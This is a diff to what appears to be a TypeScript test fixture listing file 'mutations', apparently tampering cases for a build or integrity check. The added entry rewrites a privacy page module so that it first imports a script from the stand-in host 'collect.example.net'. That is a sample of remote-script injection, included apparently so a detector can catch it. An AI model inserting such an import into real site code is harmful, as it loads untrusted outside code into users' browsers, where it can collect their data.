@@ -228,6 +228,12 @@ const sheets: readonly Mutation[] = [
     "publicDir: 'public'",
   ),
   changed(
+    'a script put in beside the texts',
+    'static/privacy/packed-texts.mjs',
+    '`import { named }',
+    "`import 'https://collect.example.net/x.js'; import { named }",
+  ),
+  changed(
     'a sheet put in by the build',
     'static/privacy/tokens.mjs',
     '`:root { color-scheme',
